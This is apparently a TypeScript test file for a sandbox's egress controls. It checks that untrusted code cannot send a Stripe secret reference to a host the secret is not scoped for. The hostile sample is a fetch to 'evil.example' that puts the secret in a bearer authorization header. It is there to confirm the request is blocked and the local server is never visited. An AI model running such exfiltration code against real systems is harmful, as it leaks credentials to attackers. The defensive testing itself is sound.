import { createServer } from 'node:http'
import { afterAll, beforeAll, expect } from 'vitest'
import { createEgress } from '../../../egress/index.ts'
import { hostile } from '../../testing/hostile.ts'

/** Would like to see it. */
let visits = 0
const outside = createServer((_, response) => {
  visits++
  response.end()
})
let port = 0
beforeAll(async () => {
  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.7', resolve))
  const address = outside.address()
  if (address !== null && typeof address === 'object') port = address.port
})
afterAll(() => {
  outside.closeAllConnections()
  outside.close()
})
const wayOut = createEgress({ allowPrivate: ['127.0.0.7/32'], lookup: async () => ['127.0.0.7'] })

hostile('a reference sent to a host it isn’t for never leaves', {
  code: `export default async (context: any) => {
    await fetch('http://evil.example/', { headers: { authorization: 'Bearer ' + context.secrets.ref('stripe') } })
  }`,
  secrets: { stripe: ['api.stripe.example'] },
  answers: (request) => wayOut({ ...request, url: `http://evil.example:${port}/` }),
  endsAs: ['egress_denied', 'secret_unavailable', 'invalid_input'],
  then: () => expect(visits).toBe(0),
})
